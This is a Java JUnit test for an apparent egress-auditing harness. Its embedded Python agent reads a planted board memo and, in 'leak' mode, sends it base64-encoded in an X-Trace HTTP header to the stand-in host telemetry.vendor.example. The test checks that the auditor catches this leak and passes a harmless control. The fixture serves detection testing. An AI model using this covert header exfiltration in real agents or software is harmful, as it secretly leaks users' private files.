package org.egressaudit.harness.api;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import org.egressaudit.analyzers.engine.Finding;
import org.egressaudit.analyzers.engine.FindingKind;
import org.egressaudit.analyzers.policy.Verdict;
import org.egressaudit.harness.run.RunOutcome;
import org.egressaudit.harness.scenario.Scenario;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The worked example of scenarios/README.md: a new exfiltration technique written entirely in Java. The agent
 * reads a planted memo and hides it, base64-encoded, in an HTTP request header; the same agent with a harmless
 * header is the control. Run it with {@code mvn -pl harness verify -Dtest=ResearcherExampleIT}.
 */
@EgressAuditScenario
class ResearcherExampleIT {
    static final String MEMO_PATH = "/home/user/Documents/memo.txt";

    /** The agent under audit: one heartbeat to its vendor cloud, with a trace header. */
    static final String AGENT = """
            import base64, sys, urllib.request
            leak = sys.argv[1] == "leak"
            memo = open("%s", "rb").read()
            trace = base64.b64encode(memo).decode() if leak else "4bf92f3577b34da6a3ce929d0e0e4736"
            req = urllib.request.Request("http://telemetry.vendor.example/api/v1/heartbeat",
                                         data=b'{"status":"healthy"}', method="POST",
                                         headers={"Content-Type": "application/json", "X-Trace": trace})
            print(urllib.request.urlopen(req, timeout=10).read().decode())
            """.formatted(MEMO_PATH);

    @TempDir
    static Path work;

    static Scenario heartbeat(String name, String mode, Verdict expected) throws Exception {
        Path agent = Files.writeString(work.resolve("heartbeat.py"), AGENT);
        Path corpus = Files.createDirectories(work.resolve("corpus"));
        // 116 bytes: its base64 ends in '=' padding. (An unpadded run is currently joined with the next header's
        // name by the MIME line-wrap rule of EncodedRunFinder and then only the canary is found; see the report.)
        Files.writeString(corpus.resolve("memo.txt"), """
                Board memo - do not distribute.
                Q3 acquisition target: Northwind Traders. Offer ceiling 41.5M.
                CANARY-3b8e1f2a-memo
                """);
        Files.writeString(corpus.resolve("corpus.yaml"), "files:\n  memo.txt: document\n");
        return Scenarios.named(name)
                .image("egress-audit/base:bookworm")
                .agentFile(agent, "/opt/agent/heartbeat.py")
                .start("python3 /opt/agent/heartbeat.py " + mode)
                .plant(corpus, "/home/user/Documents")
                .stopAfter(Duration.ofSeconds(30))
                .stopWhenAgentExits()
                .allow("metadata").opaqueBudget(4096).markers("CANARY-")
                .respond("*.vendor.example", "/api/v1/heartbeat", 200, "{\"ok\":true}")
                .expect(expected)
                .build();
    }

    @Test
    void memoHiddenInABase64HeaderFails(ScenarioRun run) throws Exception {
        RunOutcome o = run.execute(heartbeat("header-exfil", "leak", Verdict.FAIL));
        Findings failing = Findings.of(o).failing();
        assertEquals(Verdict.FAIL, o.verdict(), failing.toString());
        assertEquals(java.util.List.of("home/user/Documents/memo.txt"), failing.plantedFiles(), failing.toString());
        Finding memo = failing.about(MEMO_PATH).ofKind(FindingKind.WHOLE).single();
        assertTrue(Findings.of(java.util.List.of(memo)).decodedThrough("http-headers", "base64").size() == 1,
                memo.decodeChain().toString());
        assertEquals("telemetry.vendor.example", memo.destination());
        assertTrue(memo.detail().contains("CANARY-"), memo.detail());
        assertTrue(o.asExpected());
    }

    @Test
    void harmlessTraceHeaderPasses(ScenarioRun run) throws Exception {
        RunOutcome o = run.execute(heartbeat("header-harmless", "harmless", Verdict.PASS));
        assertEquals(Verdict.PASS, o.verdict(), Findings.of(o).toString());
        assertTrue(Findings.of(o).plantedFiles().isEmpty(), Findings.of(o).toString());
        // the agent did talk to its cloud: the pass is not an agent that never ran
        assertTrue(Files.readString(o.folder().agentLog()).contains("\"ok\":true"),
                Files.readString(o.folder().agentLog()));
    }
}
